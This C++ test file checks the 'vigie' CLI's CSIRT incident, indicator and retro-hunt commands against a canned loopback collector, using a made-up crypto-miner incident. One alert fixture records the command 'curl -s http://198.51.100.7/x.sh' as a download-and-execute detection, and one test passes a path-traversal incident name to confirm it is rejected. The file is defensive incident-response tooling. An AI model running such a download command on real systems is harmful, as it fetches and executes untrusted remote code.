// `vigie incident …`, `vigie ioc …` and `vigie retrohunt …` against a stand-in
// collector on loopback (tests/support/http_receiver.h) that answers the
// CSIRT API's routes (collector/src/csirt/api.h) with canned JSON: the
// requests the CLI sends (method, target, If-Match, body) and what it prints.
#include <gtest/gtest.h>

#include <chrono>
#include <functional>
#include <nlohmann/json.hpp>
#include <string>
#include <thread>
#include <utility>
#include <vector>

#include "run_command.h"
#include "support/http_receiver.h"

namespace vigie::cli {
namespace {

using collector::testing::ReceivedRequest;
using nlohmann::json;

constexpr uint64_t kSecondNs = 1'000'000'000ull;
constexpr uint64_t kMinuteNs = 60 * kSecondNs;
constexpr uint64_t kHourNs = 60 * kMinuteNs;

uint64_t now_ns() {
  return static_cast<uint64_t>(std::chrono::duration_cast<std::chrono::nanoseconds>(
                                   std::chrono::system_clock::now().time_since_epoch())
                                   .count());
}


// The path of a request target, without its query.
std::string path_of(const std::string& target) { return target.substr(0, target.find('?')); }

// SEC01 clocks as the collector computes them, relative to `now`.
json report_step(uint64_t now) {  // open, due in 3h12m (and a half minute)
  return {{"key", "report"},
          {"title", "Report to EGI CSIRT (abuse@egi.eu)"},
          {"sec01_step", 1},
          {"started_ns", now - 48 * kMinuteNs},
          {"due_ns", now + 3 * kHourNs + 12 * kMinuteNs + 30 * kSecondNs},
          {"done_ns", 0},
          {"status", "ok"},
          {"late_ns", 0}};
}
json contain_step(uint64_t now) {  // open, overdue by 2h05m (and a half minute)
  return {{"key", "contain"},
          {"title", "Contain the incident"},
          {"sec01_step", 2},
          {"started_ns", now - 26 * kHourNs},
          {"due_ns", now - 2 * kHourNs - 5 * kMinuteNs - 30 * kSecondNs},
          {"done_ns", 0},
          {"status", "overdue"},
          {"late_ns", 0}};
}
json request_step(uint64_t now) {  // answered 1h05m late
  return {{"key", "request:6f0c1a52-7d1e-4b0a-9a53-3c1f2b0e9d41"},
          {"title", "Answer EGI CSIRT's request"},
          {"sec01_step", 5},
          {"started_ns", now - 6 * kHourNs},
          {"due_ns", now - 3 * kHourNs},
          {"done_ns", now - 3 * kHourNs + 65 * kMinuteNs},
          {"status", "done"},
          {"late_ns", 65 * kMinuteNs}};
}

json incident(uint64_t now, const std::string& id = "grif-2026-0007") {
  return {{"id", id},
          {"uuid", "3b9d2f0e-5c1a-4e8b-9f4d-2a7c6e1b0d93"},
          {"title", "Crypto-miner on node12"},
          {"summary", "A miner started from a Slurm job.\nThe account is suspended."},
          {"state", "contained"},
          {"severity", "high"},
          {"tlp", "amber"},
          {"sites", {"grif", "lal"}},
          {"coordinator", "alice@example.org"},
          {"merged_into", ""},
          {"discovered_ns", now - 26 * kHourNs},
          {"reported_ns", now - 25 * kHourNs},
          {"contained_ns", now - kHourNs},
          {"isolated_ns", 0},
          {"downtime_announced_ns", 0},
          {"resolved_ns", 0},
          {"closure_report_ns", 0},
          {"closed_ns", 0},
          {"created_ns", now - 26 * kHourNs},
          {"updated_ns", now - kHourNs},
          {"version", 4},
          {"sec01", {report_step(now), contain_step(now), request_step(now)}},
          {"next_deadline", contain_step(now)}};
}

json timeline(uint64_t now) {
  json alert_entry = {{"id", "0a1b2c3d-0000-4000-8000-000000000001"},
                      {"incident_id", "grif-2026-0007"},
                      {"occurred_ns", now - 26 * kHourNs},
                      {"recorded_ns", now - 26 * kHourNs},
                      {"kind", "alert"},
                      {"author", "collector"},
                      {"source", "vigie"},
                      {"text", "Download and execute with curl"},
                      {"tlp", "amber"},
                      {"references", {{"alerts", {17}}}},
                      {"answers", ""},
                      {"corrects", ""},
                      {"closure_report", false}};
  alert_entry["alerts"] = {
      {{"id", 17},
       {"time_ns", now - 26 * kHourNs},
       {"rule_title", "Download and execute with curl"},
       {"level", "high"},
       {"host", "node12"},
       {"user", "alice"},
       {"pid", 4242},
       {"image", "/usr/bin/curl"},
       {"command_line", "curl -s http://198.51.100.7/x.sh"},
       {"workload", {{"kind", "slurm_job"}, {"id", "42"}, {"user", "alice"}}}}};
  json request = {{"id", "6f0c1a52-7d1e-4b0a-9a53-3c1f2b0e9d41"},
                  {"incident_id", "grif-2026-0007"},
                  {"occurred_ns", now - 6 * kHourNs},
                  {"recorded_ns", now - 6 * kHourNs},
                  {"kind", "egi_request"},
                  {"author", "bob"},
                  {"source", "egi-csirt"},
                  {"text", "Please send the job's logs"},
                  {"tlp", "red"},
                  {"references", json::object()},
                  {"answers", ""},
                  {"corrects", ""},
                  {"closure_report", false}};
  return {{"timeline", {alert_entry, request}}};
}

json indicator(const std::string& uuid, const std::string& type, const std::string& value) {
  return {{"uuid", uuid},      {"type", type},
          {"value", value},    {"to_ids", true},
          {"tlp", "green"},    {"first_seen_ns", 0},
          {"last_seen_ns", 0}, {"valid_until_ns", 0},
          {"source", "site"},  {"tags", {"miner", "c2"}},
          {"comment", ""},     {"deleted", false},
          {"created_ns", 1},   {"updated_ns", 1}};
}

constexpr const char* kIndicatorUuid = "9e8d7c6b-5a49-4382-b1a0-f9e8d7c6b5a4";

json retrohunt(const std::string& state) {
  return {{"id", 12},
          {"state", state},
          {"indicators", {kIndicatorUuid}},
          {"since_ns", 1},
          {"requested_ns", 1},
          {"started_ns", 0},
          {"finished_ns", 0},
          {"requested_by", "alice"},
          {"rows_scanned", state == "done" ? 123456 : 0},
          {"sightings", state == "done" ? 2 : 0},
          {"truncated", false},
          {"error", ""}};
}

class CsirtCommandTest : public ::testing::Test {
 protected:
  // `vigie` with the stand-in's URL, in UTC so that printed times are known.
  testing::Run vigie(const std::string& arguments) const {
    return testing::run_command(std::string("TZ=UTC ") + VIGIE_CLI_PATH + " --collector " +
                                collector_.url() + " " + arguments);
  }

  // PATCH answers: 200 unless a test sets another status (read by the stand-in's thread).
  std::atomic<int> patch_status_{200};
  int retrohunt_polls_ = 0;
  const uint64_t now_ = now_ns();
  // A collector stand-in (tests/support/http_receiver.h): answers each
  // request with answer(), records every request.
  collector::testing::HttpReceiver collector_{[this](const ReceivedRequest& r) {
    const auto [status, body] = answer(r);
    return std::pair<int, std::string>{status, body.dump()};
  }};

 private:
  std::pair<int, json> answer(const ReceivedRequest& r) {
    const std::string path = path_of(r.target);
    const std::string route = r.method + " " + path;
    if (route == "GET /api/v1/csirt/incidents") {
      json second = incident(now_, "grif-2026-0008");
      second["state"] = "suspected";
      second["tlp"] = "amber+strict";
      second["title"] = "Odd SSH keys";
      second["next_deadline"] = report_step(now_);
      json third = incident(now_, "grif-2026-0009");
      third["next_deadline"] = nullptr;
      return {200, {{"incidents", {incident(now_), second, third}}}};
    }
    if (route == "POST /api/v1/csirt/incidents") {
      json created = incident(now_);
      created["state"] = "suspected";
      created["next_deadline"] = report_step(now_);
      return {201, created};
    }
    if (route == "GET /api/v1/csirt/incidents/grif-2026-0007") return {200, incident(now_)};
    if (route == "PATCH /api/v1/csirt/incidents/grif-2026-0007") {
      if (patch_status_ == 412) return {412, {{"error", "incident changed: version is now 5"}}};
      if (patch_status_ == 409)
        return {409, {{"error", "contained cannot move to closed: resolve it first"}}};
      json changed = incident(now_);
      changed["state"] = "investigating";
      changed["version"] = 5;
      return {200, changed};
    }
    if (route == "GET /api/v1/csirt/incidents/grif-2026-0007/timeline")
      return {200, timeline(now_)};
    if (route == "POST /api/v1/csirt/incidents/grif-2026-0007/timeline") {
      json entry = timeline(now_)["timeline"][1];
      entry["id"] = "1d2e3f40-0000-4000-8000-0000000000aa";
      entry["kind"] = json::parse(r.body).at("kind");
      return {201, entry};
    }
    if (route == "POST /api/v1/csirt/incidents/grif-2026-0007/indicators") {
      json linked = indicator(kIndicatorUuid, "ip", "198.51.100.7");
      linked["role"] = "suspected";
      linked["linked_ns"] = now_;
      return {201, {{"indicators", {linked}}, {"retrohunt", retrohunt("queued")}}};
    }
    if (route == "GET /api/v1/csirt/incidents/grif-2026-0007/scope") {
      return {200,
              {{"incident", "grif-2026-0007"},
               {"sites", {"grif"}},
               {"hosts", {"node12", "node13"}},
               {"users", {"alice"}},
               {"accounts", {"proj42"}},
               {"jobs",
                {{{"job_id", "42"},
                  {"user", "alice"},
                  {"account", "proj42"},
                  {"hosts", {"node12", "node13"}},
                  {"ended", true},
                  {"energy_joules", 4000.0},
                  {"operational_gco2e", 21.0},
                  {"embodied_gco2e", 1.5},
                  {"carbon_gco2e", 22.5}}}},
               {"energy_joules", 4000.0},
               {"carbon_gco2e", 22.5}}};
    }
    if (route == "POST /api/v1/csirt/indicators") {
      return {201,
              {{"indicators", {indicator(kIndicatorUuid, "domain", "pool.example")}},
               {"retrohunt", nullptr}}};
    }
    if (route == "GET /api/v1/csirt/indicators") {
      json revoked = indicator("0f1e2d3c-4b5a-4697-8877-665544332211", "ip", "192.0.2.1");
      revoked["deleted"] = true;
      return {200, {{"indicators", {indicator(kIndicatorUuid, "ip", "198.51.100.7"), revoked}}}};
    }
    if (route == std::string("GET /api/v1/csirt/indicators/") + kIndicatorUuid + "/sightings") {
      return {200,
              {{"indicator", indicator(kIndicatorUuid, "ip", "198.51.100.7")},
               {"sightings",
                {{{"indicator", kIndicatorUuid},
                  {"site", "grif"},
                  {"host", "node12"},
                  {"workload", {{"kind", "slurm_job"}, {"id", "42"}}},
                  {"user", "alice"},
                  {"first_ns", 1714572187000000000ull},
                  {"last_ns", 1714575787000000000ull},
                  {"count", 3},
                  {"source", "alert"},
                  {"alert_id", 17}},
                 {{"indicator", kIndicatorUuid},
                  {"site", "lal"},
                  {"host", "login1"},
                  {"workload", {{"kind", "systemd_unit"}, {"id", "sshd.service"}}},
                  {"user", "bob"},
                  {"first_ns", 1714572187000000000ull},
                  {"last_ns", 1714572187000000000ull},
                  {"count", 1},
                  {"source", "retrohunt"},
                  {"alert_id", 0}}}}}};
    }
    if (route == "POST /api/v1/csirt/retrohunt") return {202, retrohunt("queued")};
    if (route == "GET /api/v1/csirt/retrohunt/12")
      return {200, retrohunt(++retrohunt_polls_ < 3 ? "running" : "done")};
    return {404, {{"error", "no route " + route}}};
  }
};

bool has(const std::string& out, const std::string& text) {
  return out.find(text) != std::string::npos;
}

TEST_F(CsirtCommandTest, ListShowsOpenIncidentsAndTheirNextDeadline) {
  const auto result = vigie("incident list");
  ASSERT_EQ(result.exit_code, 0) << result.output;
  const auto& out = result.output;
  EXPECT_EQ(out.rfind("ID", 0), 0u) << out;
  for (const char* text :
       {"STATE", "SEVERITY", "TLP", "TITLE", "NEXT DEADLINE", "grif-2026-0007", "contained", "high",
        "AMBER+STRICT", "Crypto-miner on node12", "Contain the incident OVERDUE by 2h05m",
        "Report to EGI CSIRT (abuse@egi.eu) in 3h12m", "grif-2026-0009"}) {
    EXPECT_TRUE(has(out, text)) << text << "\n" << out;
  }
  ASSERT_EQ(collector_.requests().size(), 1u);
  EXPECT_EQ(collector_.requests()[0].method, "GET");
  EXPECT_EQ(collector_.requests()[0].target, "/api/v1/csirt/incidents?open=1&limit=100");
}

TEST_F(CsirtCommandTest, ListAllOrOneStateDropsTheOpenFilter) {
  ASSERT_EQ(vigie("incident list --all --limit 5").exit_code, 0);
  ASSERT_EQ(vigie("incident list --state closed").exit_code, 0);
  const auto requests = collector_.requests();
  ASSERT_EQ(requests.size(), 2u);
  EXPECT_EQ(requests[0].target, "/api/v1/csirt/incidents?limit=5");
  EXPECT_EQ(requests[1].target, "/api/v1/csirt/incidents?state=closed&limit=100");
}

TEST_F(CsirtCommandTest, ShowPrintsFactsClocksAndTimeline) {
  const auto result = vigie("incident show grif-2026-0007");
  ASSERT_EQ(result.exit_code, 0) << result.output;
  const auto& out = result.output;
  for (const char* text :
       {"Incident grif-2026-0007: Crypto-miner on node12", "TLP:AMBER", "grif, lal",
        "alice@example.org", "(version 4)", "A miner started from a Slurm job.",
        "The account is suspended.",
        // The clocks: every step, with its status, due and done times.
        "SEC01 clocks", "STEP", "CLOCK", "STATUS", "DUE", "DONE",
        "Report to EGI CSIRT (abuse@egi.eu)", "in 3h12m", "Contain the incident",
        "OVERDUE by 2h05m", "Answer EGI CSIRT's request (6f0c1a52-7d1e-4b0a-9a53-3c1f2b0e9d41)",
        "done, 1h05m late",
        // The timeline, and what each alert of an alert entry saw.
        "TIME", "KIND", "AUTHOR", "TEXT", "egi_request", "bob", "RED",
        "[request 6f0c1a52-7d1e-4b0a-9a53-3c1f2b0e9d41] Please send the job's logs",
        "alert 17 (high) Download and execute with curl", "host node12, user alice, job 42",
        "curl -s http://198.51.100.7/x.sh"}) {
    EXPECT_TRUE(has(out, text)) << text << "\n" << out;
  }
  EXPECT_LT(out.find("SEC01 clocks"), out.find("Timeline")) << out;
  const auto requests = collector_.requests();
  ASSERT_EQ(requests.size(), 2u);
  EXPECT_EQ(requests[0].target, "/api/v1/csirt/incidents/grif-2026-0007");
  EXPECT_EQ(requests[1].target, "/api/v1/csirt/incidents/grif-2026-0007/timeline");
}

TEST_F(CsirtCommandTest, JsonPrintsTheApisAnswers) {
  const auto list = vigie("incident list --json");
  ASSERT_EQ(list.exit_code, 0) << list.output;
  EXPECT_EQ(json::parse(list.output).at("incidents").size(), 3u);
  EXPECT_TRUE(has(list.output, "\n  \"incidents\"")) << "not pretty-printed";

  // show makes two requests: both answers, under their names.
  const auto show = vigie("--json incident show grif-2026-0007");
  ASSERT_EQ(show.exit_code, 0) << show.output;
  const auto body = json::parse(show.output);
  EXPECT_EQ(body.at("incident").at("version"), 4);
  EXPECT_EQ(body.at("timeline").size(), 2u);
}

TEST_F(CsirtCommandTest, CreateSendsTheDraft) {
  const auto result = vigie(
      "incident create --title 'Crypto-miner on node12' --summary 'seen by Vigie' --severity high "
      "--tlp TLP:AMBER+STRICT --coordinator alice@example.org --site grif --site lal --alert 17 "
      "--alert 18 --discovered 2024-05-01T16:03:07.5+02:00");
  ASSERT_EQ(result.exit_code, 0) << result.output;
  EXPECT_TRUE(has(result.output, "Opened incident grif-2026-0007")) << result.output;
  EXPECT_TRUE(has(result.output, "next deadline: Report to EGI CSIRT (abuse@egi.eu) in 3h12m"))
      << result.output;
  const auto requests = collector_.requests();
  ASSERT_EQ(requests.size(), 1u);
  EXPECT_EQ(requests[0].method, "POST");
  EXPECT_EQ(requests[0].target, "/api/v1/csirt/incidents");
  EXPECT_EQ(requests[0].headers.at("content-type"), "application/json");
  const auto body = json::parse(requests[0].body);
  EXPECT_EQ(body.at("title"), "Crypto-miner on node12");
  EXPECT_EQ(body.at("summary"), "seen by Vigie");
  EXPECT_EQ(body.at("severity"), "high");
  EXPECT_EQ(body.at("tlp"), "amber+strict");
  EXPECT_EQ(body.at("coordinator"), "alice@example.org");
  EXPECT_EQ(body.at("sites"), json({"grif", "lal"}));
  EXPECT_EQ(body.at("alerts"), json({17, 18}));
  EXPECT_EQ(body.at("discovered_ns").get<uint64_t>(), 1714572187500000000ull);
}

TEST_F(CsirtCommandTest, CreateLeavesDefaultsToTheCollector) {
  ASSERT_EQ(vigie("incident create --title x").exit_code, 0);
  ASSERT_EQ(collector_.requests().size(), 1u);
  EXPECT_EQ(json::parse(collector_.requests()[0].body), json({{"title", "x"}}));
}

TEST_F(CsirtCommandTest, NoteSendsTheEntry) {
  const auto result = vigie(
      "incident note grif-2026-0007 --text 'Logs sent' --kind communication --tlp red "
      "--answers 6F0C1A52-7D1E-4B0A-9A53-3C1F2B0E9D41 --occurred 1714572187000000000");
  ASSERT_EQ(result.exit_code, 0) << result.output;
  EXPECT_TRUE(has(result.output, "Recorded communication 1d2e3f40-0000-4000-8000-0000000000aa"))
      << result.output;
  ASSERT_EQ(collector_.requests().size(), 1u);
  const auto request = collector_.requests().at(0);
  EXPECT_EQ(request.method, "POST");
  EXPECT_EQ(request.target, "/api/v1/csirt/incidents/grif-2026-0007/timeline");
  EXPECT_EQ(json::parse(request.body), json({{"kind", "communication"},
                                             {"text", "Logs sent"},
                                             {"tlp", "red"},
                                             {"answers", "6f0c1a52-7d1e-4b0a-9a53-3c1f2b0e9d41"},
                                             {"occurred_ns", 1714572187000000000ull}}));

  const auto report = vigie(
      "incident note grif-2026-0007 --text 'Closure report' --kind report --closure-report "
      "--occurred 2024-05-01T14:03:07Z");
  ASSERT_EQ(report.exit_code, 0) << report.output;
  const auto body = json::parse(collector_.requests().back().body);
  EXPECT_EQ(body.at("kind"), "report");
  EXPECT_EQ(body.at("closure_report"), true);
  EXPECT_EQ(body.at("occurred_ns").get<uint64_t>(), 1714572187000000000ull);
}

// What the collector would refuse is refused before anything is sent.
TEST_F(CsirtCommandTest, NoteMistakesAreSaidLocally) {
  const auto not_a_report = vigie("incident note grif-2026-0007 --text r --closure-report");
  EXPECT_EQ(not_a_report.exit_code, 1) << not_a_report.output;
  EXPECT_TRUE(has(not_a_report.output, "--kind report")) << not_a_report.output;
  const auto green_report =
      vigie("incident note grif-2026-0007 --text r --kind report --closure-report --tlp green");
  EXPECT_EQ(green_report.exit_code, 1) << green_report.output;
  EXPECT_TRUE(has(green_report.output, "AMBER, AMBER+STRICT or RED")) << green_report.output;
  const auto answers =
      vigie("incident note grif-2026-0007 --text r --answers 6f0c1a52-7d1e-4b0a-9a53-3c1f2b0e9d41");
  EXPECT_EQ(answers.exit_code, 1) << answers.output;
  EXPECT_TRUE(has(answers.output, "--kind communication")) << answers.output;
  EXPECT_TRUE(collector_.requests().empty());
}

TEST_F(CsirtCommandTest, StateSendsIfMatchWithTheVersionRead) {
  const auto result = vigie("incident state grif-2026-0007 investigating --reason 'contained'");
  ASSERT_EQ(result.exit_code, 0) << result.output;
  EXPECT_TRUE(has(result.output, "grif-2026-0007: contained → investigating")) << result.output;
  const auto requests = collector_.requests();
  ASSERT_EQ(requests.size(), 2u);
  EXPECT_EQ(requests[0].method, "GET");
  EXPECT_EQ(requests[0].target, "/api/v1/csirt/incidents/grif-2026-0007");
  EXPECT_EQ(requests[1].method, "PATCH");
  EXPECT_EQ(requests[1].target, "/api/v1/csirt/incidents/grif-2026-0007");
  EXPECT_EQ(requests[1].headers.at("if-match"), "\"4\"");
  EXPECT_EQ(json::parse(requests[1].body),
            json({{"state", "investigating"}, {"reason", "contained"}}));
}

TEST_F(CsirtCommandTest, StateMergedNamesTheTarget) {
  const auto missing = vigie("incident state grif-2026-0007 merged --reason dup");
  EXPECT_EQ(missing.exit_code, 1) << missing.output;
  EXPECT_TRUE(has(missing.output, "--merged-into")) << missing.output;
  EXPECT_TRUE(collector_.requests().empty());
  ASSERT_EQ(vigie("incident state grif-2026-0007 merged --reason dup --merged-into grif-2026-0003")
                .exit_code,
            0);
  EXPECT_EQ(json::parse(collector_.requests().back().body).at("merged_into"), "grif-2026-0003");
}

TEST_F(CsirtCommandTest, StateChangedMeanwhileSaysToRetry) {
  patch_status_ = 412;
  const auto result = vigie("incident state grif-2026-0007 investigating --reason x");
  EXPECT_EQ(result.exit_code, 1) << result.output;
  EXPECT_TRUE(has(result.output, "changed meanwhile")) << result.output;
  EXPECT_TRUE(has(result.output, "retry")) << result.output;
}

TEST_F(CsirtCommandTest, StateRefusedPrintsTheCollectorsMessage) {
  patch_status_ = 409;
  const auto result = vigie("incident state grif-2026-0007 closed --reason x");
  EXPECT_EQ(result.exit_code, 1) << result.output;
  EXPECT_TRUE(has(result.output, "cannot go from contained to closed")) << result.output;
  EXPECT_TRUE(has(result.output, "resolve it first")) << result.output;
}

TEST_F(CsirtCommandTest, LinkPrintsTheLinkedIndicatorAndItsRetrohunt) {
  const auto result = vigie(
      "incident link grif-2026-0007 --type ip-dst --value 198.51.100.7 --role suspected --tlp "
      "green");
  ASSERT_EQ(result.exit_code, 0) << result.output;
  for (const char* text : {"ROLE", kIndicatorUuid, "198.51.100.7", "suspected", "GREEN",
                           "miner, c2", "Retro-hunt 12: queued"}) {
    EXPECT_TRUE(has(result.output, text)) << text << "\n" << result.output;
  }
  ASSERT_EQ(collector_.requests().size(), 1u);
  const auto request = collector_.requests().at(0);
  EXPECT_EQ(request.method, "POST");
  EXPECT_EQ(request.target, "/api/v1/csirt/incidents/grif-2026-0007/indicators");
  EXPECT_EQ(json::parse(request.body), json({{"type", "ip-dst"},
                                             {"value", "198.51.100.7"},
                                             {"role", "suspected"},
                                             {"tlp", "green"}}));
}

TEST_F(CsirtCommandTest, ScopePrintsWhereAndTheJobsTable) {
  const auto result = vigie("incident scope grif-2026-0007");
  ASSERT_EQ(result.exit_code, 0) << result.output;
  for (const char* text : {"node12, node13", "alice", "proj42", "JOB", "USER", "ACCOUNT", "HOSTS",
                           "ENERGY", "CARBON", "4000 J", "22.5 gCO2e"}) {
    EXPECT_TRUE(has(result.output, text)) << text << "\n" << result.output;
  }
  EXPECT_EQ(collector_.requests().at(0).target, "/api/v1/csirt/incidents/grif-2026-0007/scope");
}

TEST_F(CsirtCommandTest, IocAddSendsTheIndicator) {
  const auto result = vigie(
      "ioc add --type domain --value pool.example --tlp clear --source egi-csirt --tag miner "
      "--tag c2 --comment 'from EGI CSIRT' --no-ids --valid-until 2024-05-01T14:03:07Z");
  ASSERT_EQ(result.exit_code, 0) << result.output;
  EXPECT_TRUE(has(result.output, "pool.example")) << result.output;
  ASSERT_EQ(collector_.requests().size(), 1u);
  const auto request = collector_.requests().at(0);
  EXPECT_EQ(request.method, "POST");
  EXPECT_EQ(request.target, "/api/v1/csirt/indicators");
  EXPECT_EQ(json::parse(request.body), json({{"type", "domain"},
                                             {"value", "pool.example"},
                                             {"tlp", "clear"},
                                             {"source", "egi-csirt"},
                                             {"tags", {"miner", "c2"}},
                                             {"comment", "from EGI CSIRT"},
                                             {"to_ids", false},
                                             {"valid_until_ns", 1714572187000000000ull}}));
}

TEST_F(CsirtCommandTest, IocListEscapesItsFiltersAndMarksRevokedOnes) {
  const auto result = vigie("ioc list --type 'ip-dst|port' --value '198.51.100.7|443' --deleted");
  ASSERT_EQ(result.exit_code, 0) << result.output;
  EXPECT_TRUE(has(result.output, "deleted")) << result.output;
  EXPECT_TRUE(has(result.output, "never")) << result.output;  // never seen
  EXPECT_EQ(collector_.requests().at(0).target,
            "/api/v1/csirt/indicators?type=ip-dst%7Cport&value=198.51.100.7%7C443&deleted=1&"
            "limit=100");
}

TEST_F(CsirtCommandTest, SightingsShowTheJobOrTheWorkload) {
  const auto result = vigie(std::string("ioc sightings ") + kIndicatorUuid);
  ASSERT_EQ(result.exit_code, 0) << result.output;
  const auto& out = result.output;
  for (const char* text : {"SITE", "HOST", "JOB", "USER", "FIRST", "LAST", "COUNT", "SOURCE",
                           "node12", "systemd_unit:sshd.service", "2024-05-01T14:03:07+0000",
                           "2024-05-01T15:03:07+0000", "retrohunt"}) {
    EXPECT_TRUE(has(out, text)) << text << "\n" << out;
  }
  // A Slurm job shows as its id alone.
  const std::string row = out.substr(out.find("grif  "));
  EXPECT_TRUE(has(row.substr(0, row.find('\n')), "  42  ")) << out;
  EXPECT_EQ(collector_.requests().at(0).target,
            std::string("/api/v1/csirt/indicators/") + kIndicatorUuid + "/sightings");
}

TEST_F(CsirtCommandTest, RetrohuntWaitsUntilDone) {
  const auto result = vigie(std::string("retrohunt ") + kIndicatorUuid + " --since 2h --wait");
  ASSERT_EQ(result.exit_code, 0) << result.output;
  for (const char* text :
       {"Retro-hunt 12: done", "rows scanned  123456", "sightings     2", "truncated     no"}) {
    EXPECT_TRUE(has(result.output, text)) << text << "\n" << result.output;
  }
  const auto requests = collector_.requests();
  ASSERT_EQ(requests.size(), 4u);  // the POST, then polls until done
  EXPECT_EQ(requests[0].method, "POST");
  EXPECT_EQ(requests[0].target, "/api/v1/csirt/retrohunt");
  const auto body = json::parse(requests[0].body);
  EXPECT_EQ(body.at("indicators"), json({kIndicatorUuid}));
  const auto since_ns = body.at("since_ns").get<uint64_t>();
  EXPECT_GE(since_ns, now_ - 2 * kHourNs);
  EXPECT_LE(since_ns, now_ns() - 2 * kHourNs);
  for (std::size_t i = 1; i < requests.size(); ++i) {
    EXPECT_EQ(requests[i].method, "GET");
    EXPECT_EQ(requests[i].target, "/api/v1/csirt/retrohunt/12");
  }
}

TEST_F(CsirtCommandTest, RetrohuntWithoutWaitPrintsItQueued) {
  const auto result = vigie(std::string("retrohunt ") + kIndicatorUuid);
  ASSERT_EQ(result.exit_code, 0) << result.output;
  EXPECT_TRUE(has(result.output, "Retro-hunt 12: queued, 1 indicator")) << result.output;
  EXPECT_EQ(collector_.requests().size(), 1u);
}

TEST_F(CsirtCommandTest, SendsTheApiToken) {
  ASSERT_EQ(vigie("incident list --token s3cret").exit_code, 0);
  EXPECT_EQ(collector_.requests().at(0).headers.at("authorization"), "Bearer s3cret");
}

TEST_F(CsirtCommandTest, CollectorErrorsAreReportedWithExitCode1) {
  const auto result = vigie("incident show grif-2026-0404");
  EXPECT_EQ(result.exit_code, 1) << result.output;
  EXPECT_TRUE(has(result.output, "404")) << result.output;
  EXPECT_TRUE(has(result.output, "no route")) << result.output;
}

// Bad arguments are refused before anything is sent, each saying what is accepted.
TEST_F(CsirtCommandTest, BadArgumentsAreRefusedLocally) {
  const std::pair<const char*, const char*> cases[] = {
      {"incident create --title x --tlp purple", "red, amber+strict, amber, green, clear"},
      {"incident create --title x --severity urgent", "low, medium, high, critical"},
      {"incident create --title x --discovered yesterday", "RFC 3339"},
      {"incident create --title x --discovered 2024-02-30T00:00:00Z", "RFC 3339"},
      {"incident create --title x --alert -3", "an alert id is a positive integer"},
      {"incident state grif-2026-0007 done --reason x", "false_positive"},
      {"incident state grif-2026-0007 closed", "reason"},
      {"incident note grif-2026-0007 --text x --kind alert", "egi_request"},
      {"incident show ../../alerts", "incident is named by"},
      {"incident link grif-2026-0007 --type md5 --value x", "sha256"},
      {"incident link grif-2026-0007 --type ip --value x --role culprit", "observed"},
      {"ioc sightings not-a-uuid", "8-4-4-4-12"},
      {"retrohunt not-a-uuid", "8-4-4-4-12"},
      {"retrohunt 9e8d7c6b-5a49-4382-b1a0-f9e8d7c6b5a4 --since 7x", "90s, 10m, 2h or 7d"},
      {"incident", "subcommand"},
  };
  for (const auto& [arguments, message] : cases) {
    const auto result = vigie(arguments);
    EXPECT_NE(result.exit_code, 0) << arguments << "\n" << result.output;
    EXPECT_TRUE(has(result.output, message)) << arguments << "\n" << result.output;
  }
  EXPECT_TRUE(collector_.requests().empty());
}

TEST(CsirtCommandUnreachable, SaysItCannotReachTheCollector) {
  // Nothing listens on port 1 of loopback.
  const auto result = testing::run_command(std::string(VIGIE_CLI_PATH) +
                                           " --collector http://127.0.0.1:1 incident list");
  EXPECT_EQ(result.exit_code, 2) << result.output;
  EXPECT_TRUE(has(result.output, "cannot reach the collector")) << result.output;
}

}  // namespace
}  // namespace vigie::cli
